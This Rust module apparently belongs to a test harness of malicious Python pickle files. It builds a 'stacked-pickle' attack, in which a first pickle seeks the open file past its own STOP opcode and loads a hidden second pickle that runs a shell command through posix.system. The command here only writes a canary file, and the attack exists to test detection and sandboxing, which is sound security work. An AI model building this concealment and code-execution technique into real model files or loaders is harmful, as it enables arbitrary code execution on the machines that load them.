//! Two pickles in one file, of which the first loads the second.

use super::*;

use crate::pickle::decode::Argument;

use crate::pickle::assemble::AssembleError;

use crate::pickle::{Assembler, Op};

/// What stands behind STOP.
pub const ATTACK: Attack = Attack {
    id: "stacked-pickle",
    title: "a second pickle behind the end of the first",
    summary: "A pickle ends at its STOP opcode, and readers ignore what follows. Here the first \
              one finds the file that is being read among the living objects, moves it behind its \
              own end, and loads what is there.",
    severity: Severity::Critical,
    targets: Targets::Python(&[Loader::Pickle]),
    techniques: &[
        techniques::UNIX_SHELL,
        techniques::OBFUSCATED_FILES_OR_INFORMATION,
        techniques::UNSAFE_ML_ARTIFACTS,
    ],
    cwe: &[502, 693],
    references: &[Reference {
        title: "Python documentation: pickle.load ignores what follows",
        url: "https://docs.python.org/3/library/pickle.html#pickle.load",
    }],
    build,
    expected: Expected::Effect {
        aquarium: &[Sign::Changed(CANARY), Sign::Happened(EventKind::Exec, "echo fallen")],
        policy: &[
            Evidence { kind: EventKind::Process, text: "" },
            Evidence { kind: EventKind::Exec, text: "echo fallen" },
        ],
    },
    quick: false,
};

fn build(scene: &Scene, target: Target) -> Result<Vec<u8>, BuildError> {
    let command = format!("echo fallen > '{}'", scene.path(CANARY));
    let built = || {
        let second = payload::model(|assembler| {
            payload::call(assembler, "posix", "system", &command);
        })?;
        // Once to learn how long it is, and once with that.
        let length = first(0)?.len();
        Ok([first(length as i64)?, second].concat())
    };
    built().map_err(|error: AssembleError| BuildError {
        attack: ATTACK.id,
        target: target.id().into(),
        problem: error.to_string(),
    })
}

/// The first pickle. Several files may be open for reading, standard input among them; the last of
/// them has the highest descriptor. The offset is written in a width that does not depend on it.
fn first(end: i64) -> Result<Vec<u8>, AssembleError> {
    payload::model(|assembler| {
        let file = |assembler: &mut Assembler| {
            // functools.partial(max, key=_io.BufferedReader.fileno)
            assembler.global("functools", "partial").global("builtins", "max").op(Op::Tuple1);
            assembler.op(Op::EmptyDict).text("key").global("_io", "BufferedReader.fileno");
            assembler.op(Op::SetItem).op(Op::NewObjEx);
            payload::living(assembler, "_io", "BufferedReader");
        };
        // A list: where the file was moved to, and what was loaded from there.
        assembler.op(Op::Mark).global("_io", "BufferedReader.seek");
        file(assembler);
        assembler.write(Op::BinInt, &Argument::Int(end)).op(Op::Tuple2).op(Op::Reduce);
        assembler.global("_pickle", "load");
        file(assembler);
        assembler.op(Op::Tuple1).op(Op::Reduce).op(Op::List);
    })
}
